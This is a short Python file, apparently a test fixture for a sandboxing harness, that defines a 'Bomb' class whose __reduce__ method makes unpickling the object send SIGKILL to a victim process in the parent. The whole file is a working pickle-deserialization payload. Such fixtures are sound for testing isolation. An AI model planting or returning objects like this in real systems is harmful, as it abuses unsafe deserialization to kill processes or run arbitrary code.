"""Return an object that runs a program of its choice where it is unpickled: in the parent."""

import os
import signal

STATUS = "error"


class Bomb:
    def __init__(self, pid):
        self.pid = pid

    def __reduce__(self):
        return os.kill, (self.pid, signal.SIGKILL)


def attack(target):
    return Bomb(target["victim"])
